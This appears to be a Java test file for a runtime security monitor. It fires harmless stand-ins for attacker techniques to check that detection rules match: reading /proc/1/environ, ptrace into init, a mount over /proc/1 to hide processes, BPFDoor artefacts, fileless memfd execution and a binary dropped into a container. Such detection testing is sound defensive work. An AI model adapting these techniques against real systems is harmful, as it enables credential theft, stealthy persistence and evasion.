                        "/proc/1/environ",
                        "/proc/1/environ",
                        "/proc/1/environ",
                        "/proc/1/environ",
                        "/proc/1/environ",
                        "/proc/1/environ"),
                harvester));
        // calls that fail harmlessly, recorded as they are made: POKEDATA into init (refused: nothing is attached), a
        // mount over /proc/1 of a file system that does not exist (refused), a socket filter of one byte (refused) by a
        // process that made a BPFDoor pid file first
        cases.add(new Case(
                "ptrace_injection", () -> run("/usr/bin/perl", "-e", "syscall(101, 5, 1, 0, 0)"), "/usr/bin/perl"));
        cases.add(new Case(
                "mount_proc_hide",
                () -> run(
                        "/usr/bin/perl",
                        "-e",
                        "$s = 'none'; $t = '/proc/1'; $f = 'vigil-no-such-fs'; syscall(165, $s, $t, $f, 0, 0)"),
                "/usr/bin/perl"));
        cases.add(new Case(
                "bpfdoor_bpf_filter_creation",
                () -> run(
                        "/usr/bin/perl",
                        "-e",
                        "open(F, '>', '/run/haldrund.pid'); close(F); unlink('/run/haldrund.pid');"
                                + " socket(S, 2, 2, 0) or die; setsockopt(S, 1, 26, 'x')"),
                "/usr/bin/perl"));
        // a program run from memory: perl copies true into a memfd and executes it (SECL names its file memfd:NAME,
        // with no path)
        cases.add(new Case(
                "memfd_create_v2",
                () -> run(
                        "/usr/bin/perl",
                        "-e",
                        "$n = 'vigil'; $fd = syscall(319, $n, 0); die if $fd < 0;"
                                + " open(S, '<', '/bin/true') or die; binmode(S); local $/; $c = <S>;"
                                + " open(D, '>&=', $fd) or die; binmode(D); syswrite(D, $c) or die;"
                                + " exec {\"/proc/self/fd/$fd\"} 'vigil-memfd' or die"),
                ""));
        // a real tool, harmlessly: passwd's help
        cases.add(new Case("passwd_execution_v2", () -> run("/usr/bin/passwd", "--help"), "/usr/bin/passwd"));
        // a tracee's effective id: PEEKDATA of init (refused: nothing is attached)
        String tracer = copy("/usr/bin/perl", "tracer");
        cases.add(new Case("sensitive_tracing", () -> run(tracer, "-e", "syscall(101, 2, 1, 0, 0)"), tracer));
        // a binary written into a container's overlay after it started: its upper layer, modified just now
        cases.add(new Case(
                "new_binary_execution_in_container_v2",
                () -> {
                    Path dropped = overlay().resolve("dropped-v2");
                    Files.copy(Path.of("/bin/true"), dropped, StandardCopyOption.REPLACE_EXISTING);
                    dropped.toFile().setExecutable(true);
                    Files.createDirectories(CONTAINER_CGROUP);
                    return sh("echo $$ > " + CONTAINER_CGROUP.resolve("cgroup.procs") + " && exec " + dropped);
                },
                OVERLAY.resolve("merged/dropped-v2").toString(),
                null,
                CONTAINER));
        return cases;
    }

    @TestFactory
    Stream<DynamicTest> eachRuleFiresOnWhatItIsAbout() throws IOException {
        return cases().stream()
                .map(c -> DynamicTest.dynamicTest(c.rule(), () -> {
                    long pid = c.trigger().fire();
                    String parent = c.parent();
                    Fired fired = parent == null
                            ? fired(c.rule(), pid)
                            : fired(
                                    c.rule(),
                                    f -> f.ancestors().contains(parent)
                                            && f.processPath().equals(c.process()));
                    assertThat(fired.processPath())
                            .as("the process of %s", c.rule())
                            .isEqualTo(c.process());
                    // started by this JVM: its ancestors lead back here
                    assertThat(fired.ancestors())
                            .as("the ancestors of %s", c.rule())
                            .isNotEmpty();
                    assertThat(fired.container())
                            .as("the container of %s", c.rule())
                            .isEqualTo(c.container());
                }));
    }

    /** The rule's match for the process {@code pid}, waited for (10 s). */
    private static Fired fired(String rule, long pid) throws InterruptedException {
        return fired(rule, f -> f.pid() == pid);
    }

    private static Fired fired(String rule, java.util.function.Predicate<Fired> which) throws InterruptedException {
        return PolicyTriggers.await(
                FIRED,
                fired -> fired.rule().equals(rule) && which.test(fired),
                which,
                "no " + rule + " match as expected (the process's matches are listed)",
                f -> f.rule() + ":" + f.processPath());
    }
}
